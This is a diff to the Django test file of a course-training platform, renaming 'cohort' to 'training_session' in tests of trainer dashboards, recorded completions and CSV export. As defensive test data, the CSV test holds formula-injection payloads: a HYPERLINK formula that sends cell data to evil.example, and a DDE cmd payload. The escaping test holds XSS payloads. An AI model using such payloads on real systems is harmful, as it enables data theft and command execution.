@@ -10,8 +10,8 @@ from django.http import QueryDict
 from courses.knowledge_check import grade
 from courses.models import CompletionTally, CourseCompletion
 from courses.tracking import complete_lesson, enrol, record_check
-from tests.courses.conftest import RIGHT, make_cohort, make_learner, route
-from tests.courses.conftest import join as join_cohort
+from tests.courses.conftest import RIGHT, make_learner, make_training_session, route
+from tests.courses.conftest import join as join_training_session
 
 pytestmark = pytest.mark.django_db
 
@@ -33,13 +33,13 @@ def finish(user, tree, language="en"):
 @pytest.fixture
 def session(tree, trainer, other_trainer):
     """A session with four participants at four stages, and people who are not in it."""
-    cohort = make_cohort(trainer, tree.course)
+    training_session = make_training_session(trainer, tree.course)
     done = make_learner(full_name="Nadia Karimi", organisation="Border Directorate")
     halfway = make_learner(full_name="Tomás Villalobos", country="Chile")
     workshop = make_learner(full_name="Awa Ndiaye", country="Senegal")
     idle = make_learner(full_name="Mehmet Aydın", country="Türkiye")
     for user in (done, halfway, workshop, idle):
-        join_cohort(user, cohort)
+        join_training_session(user, training_session)
     finish(done, tree)
     complete_lesson(halfway, tree.reading, "en")
     pass_check(halfway, tree)
@@ -49,10 +49,12 @@ def session(tree, trainer, other_trainer):
     loner = make_learner(full_name="Lone Learner")
     enrol(loner, tree.course, "en")
     theirs = make_learner(full_name="Their Participant")
-    join_cohort(theirs, make_cohort(other_trainer, tree.course, name="Their session"))
-    cohort.invitations.create(email="not.yet@example.org")
-    cohort.invitations.create(email=halfway.email)
-    return cohort, {"done": done, "halfway": halfway, "workshop": workshop, "idle": idle}
+    join_training_session(
+        theirs, make_training_session(other_trainer, tree.course, name="Their session")
+    )
+    training_session.invitations.create(email="not.yet@example.org")
+    training_session.invitations.create(email=halfway.email)
+    return training_session, {"done": done, "halfway": halfway, "workshop": workshop, "idle": idle}
 
 
 def rows_of(html):
@@ -65,10 +67,10 @@ def row_for(html, name):
 
 
 def test_the_dashboard_shows_each_participant_and_only_them(client, tree, trainer, session):
-    cohort, people = session
+    training_session, people = session
     client.force_login(trainer)
 
-    response = client.get(f"/en/training/{cohort.pk}/")
+    response = client.get(f"/en/training/{training_session.pk}/")
 
     html = response.content.decode()
     assert response.status_code == 200
@@ -98,17 +100,17 @@ def test_the_dashboard_shows_each_participant_and_only_them(client, tree, traine
 def test_recording_a_workshop_completion_shows_it_as_trainer_recorded(
     client, tree, trainer, session
 ):
-    cohort, people = session
-    cohort.language = "fr"
-    cohort.save()
+    training_session, people = session
+    training_session.language = "fr"
+    training_session.save()
     client.force_login(trainer)
 
-    form = client.get(f"/en/training/{cohort.pk}/record/").content.decode()
+    form = client.get(f"/en/training/{training_session.pk}/record/").content.decode()
     assert "Awa Ndiaye" in form and "Mehmet Aydın" in form
     assert "Nadia Karimi" not in form  # completed already: not offered
 
     response = client.post(
-        f"/en/training/{cohort.pk}/record/",
+        f"/en/training/{training_session.pk}/record/",
         {"participants": [people["workshop"].pk], "note": NOTE},
         follow=True,
     )
@@ -140,7 +142,7 @@ def test_recording_a_workshop_completion_shows_it_as_trainer_recorded(
 
 
 def test_a_self_completion_reads_completed_online_on_its_check(client, tree, trainer, session):
-    _cohort, people = session
+    _training_session, people = session
     completion = CourseCompletion.objects.get(user=people["done"])
 
     html = client.get(f"/en/certificates/verify/{completion.certificate_code}/").content.decode()
@@ -149,10 +151,11 @@ def test_a_self_completion_reads_completed_online_on_its_check(client, tree, tra
 
 
 def test_a_later_self_completion_leaves_the_trainers_record(client, tree, trainer, session):
-    cohort, people = session
+    training_session, people = session
     client.force_login(trainer)
     client.post(
-        f"/en/training/{cohort.pk}/record/", {"participants": [people["halfway"].pk], "note": NOTE}
+        f"/en/training/{training_session.pk}/record/",
+        {"participants": [people["halfway"].pk], "note": NOTE},
     )
     recorded = CourseCompletion.objects.get(user=people["halfway"])
 
@@ -170,14 +173,16 @@ def test_a_later_self_completion_leaves_the_trainers_record(client, tree, traine
     )
     assert CompletionTally.objects.get(course=tree.course).count == 2  # done + halfway
     client.force_login(trainer)
-    row = row_for(client.get(f"/en/training/{cohort.pk}/").content.decode(), "Tomás Villalobos")
+    row = row_for(
+        client.get(f"/en/training/{training_session.pk}/").content.decode(), "Tomás Villalobos"
+    )
     assert ">3 of 3</td>" in row and "Recorded by a trainer on" in row
 
 
 def test_recording_twice_or_for_a_self_completer_changes_nothing(client, tree, trainer, session):
-    cohort, people = session
+    training_session, people = session
     client.force_login(trainer)
-    url = f"/en/training/{cohort.pk}/record/"
+    url = f"/en/training/{training_session.pk}/record/"
     client.post(url, {"participants": [people["idle"].pk], "note": NOTE})
 
     # The same form sent again (a retry), with someone who completed online added.
@@ -199,13 +204,13 @@ def test_recording_twice_or_for_a_self_completer_changes_nothing(client, tree, t
 def test_a_trainer_records_only_their_own_participants(
     client, tree, trainer, other_trainer, session
 ):
-    cohort, _people = session
+    training_session, _people = session
     stranger = make_learner(full_name="Not In The Session")
     enrol(stranger, tree.course, "en")
     client.force_login(trainer)
 
     response = client.post(
-        f"/en/training/{cohort.pk}/record/", {"participants": [stranger.pk], "note": NOTE}
+        f"/en/training/{training_session.pk}/record/", {"participants": [stranger.pk], "note": NOTE}
     )
 
     assert response.status_code == 200  # not a choice: the form refuses it
@@ -213,17 +218,18 @@ def test_a_trainer_records_only_their_own_participants(
     assert not CourseCompletion.objects.filter(user=stranger).exists()
     client.force_login(other_trainer)
     theirs = client.post(
-        f"/en/training/{cohort.pk}/record/", {"participants": [stranger.pk], "note": NOTE}
+        f"/en/training/{training_session.pk}/record/", {"participants": [stranger.pk], "note": NOTE}
     )
     assert theirs.status_code == 404
 
 
 def test_a_note_is_required(client, tree, trainer, session):
-    cohort, people = session
+    training_session, people = session
     client.force_login(trainer)
 
     response = client.post(
-        f"/en/training/{cohort.pk}/record/", {"participants": [people["idle"].pk], "note": ""}
+        f"/en/training/{training_session.pk}/record/",
+        {"participants": [people["idle"].pk], "note": ""},
     )
 
     assert response.status_code == 200
@@ -238,18 +244,19 @@ def read_csv(response):
 
 
 def test_the_csv_export_has_every_participant_and_their_progress(client, tree, trainer, session):
-    cohort, people = session
+    training_session, people = session
     client.force_login(trainer)
     client.post(
-        f"/en/training/{cohort.pk}/record/", {"participants": [people["workshop"].pk], "note": NOTE}
+        f"/en/training/{training_session.pk}/record/",
+        {"participants": [people["workshop"].pk], "note": NOTE},
     )
 
-    response = client.get(f"/en/training/{cohort.pk}/participants.csv")
+    response = client.get(f"/en/training/{training_session.pk}/participants.csv")
 
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert (
-        f'filename="training-session-{cohort.pk}-participants.csv"'
+        f'filename="training-session-{training_session.pk}-participants.csv"'
         in (response["Content-Disposition"])
     )
     assert response["Cache-Control"] == "private, no-store"
@@ -282,18 +289,18 @@ def test_the_csv_export_has_every_participant_and_their_progress(client, tree, t
 
 
 def test_the_csv_cannot_carry_a_formula(client, tree, trainer):
-    cohort = make_cohort(trainer, tree.course)
+    training_session = make_training_session(trainer, tree.course)
     sly = make_learner(
         full_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
         organisation="+cmd|' /C calc'!A0",
         country="-2+3",
     )
-    join_cohort(sly, cohort)
+    join_training_session(sly, training_session)
     at = make_learner(full_name="@SUM(1+1)", organisation="\tTabbed", country="Plain")
-    join_cohort(at, cohort)
+    join_training_session(at, training_session)
     client.force_login(trainer)
 
-    _header, *rows = read_csv(client.get(f"/en/training/{cohort.pk}/participants.csv"))
+    _header, *rows = read_csv(client.get(f"/en/training/{training_session.pk}/participants.csv"))
 
     cells = {cell for row in rows for cell in row}
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
@@ -307,29 +314,33 @@ def test_the_csv_cannot_carry_a_formula(client, tree, trainer):
 
 def test_free_text_is_escaped_on_every_trainer_page(client, tree, trainer):
     script = "<script>alert(1)</script>"
-    cohort = make_cohort(trainer, tree.course, name=f"Session {script}", location=script)
+    training_session = make_training_session(
+        trainer, tree.course, name=f"Session {script}", location=script
+    )
     participant = make_learner(
         full_name='<img src=x onerror="alert(2)">', organisation=script, country="<b>X</b>"
     )
-    join_cohort(participant, cohort)
+    join_training_session(participant, training_session)
     waiting = make_learner(full_name="Still Waiting")
-    join_cohort(waiting, cohort)
+    join_training_session(waiting, training_session)
     client.force_login(trainer)
     client.post(
-        f"/en/training/{cohort.pk}/record/",
+        f"/en/training/{training_session.pk}/record/",
         {"participants": [participant.pk], "note": f"Great {script}\nsecond line"},
     )
 
     pages = {
         "list": client.get("/en/training/").content.decode(),
-        "dashboard": client.get(f"/en/training/{cohort.pk}/").content.decode(),
-        "record": client.get(f"/en/training/{cohort.pk}/record/").content.decode(),
-        "edit": client.get(f"/en/training/{cohort.pk}/edit/").content.decode(),
+        "dashboard": client.get(f"/en/training/{training_session.pk}/").content.decode(),
+        "record": client.get(f"/en/training/{training_session.pk}/record/").content.decode(),
+        "edit": client.get(f"/en/training/{training_session.pk}/edit/").content.decode(),
     }
     client.force_login(participant)
     pages["course"] = client.get(tree.course.url).content.decode()
     client.force_login(make_learner(full_name="Someone"))
-    pages["join"] = client.get("/en/learning/join/", {"code": cohort.join_code}).content.decode()
+    pages["join"] = client.get(
+        "/en/learning/join/", {"code": training_session.join_code}
+    ).content.decode()
 
     for name, html in pages.items():
         assert script not in html, name
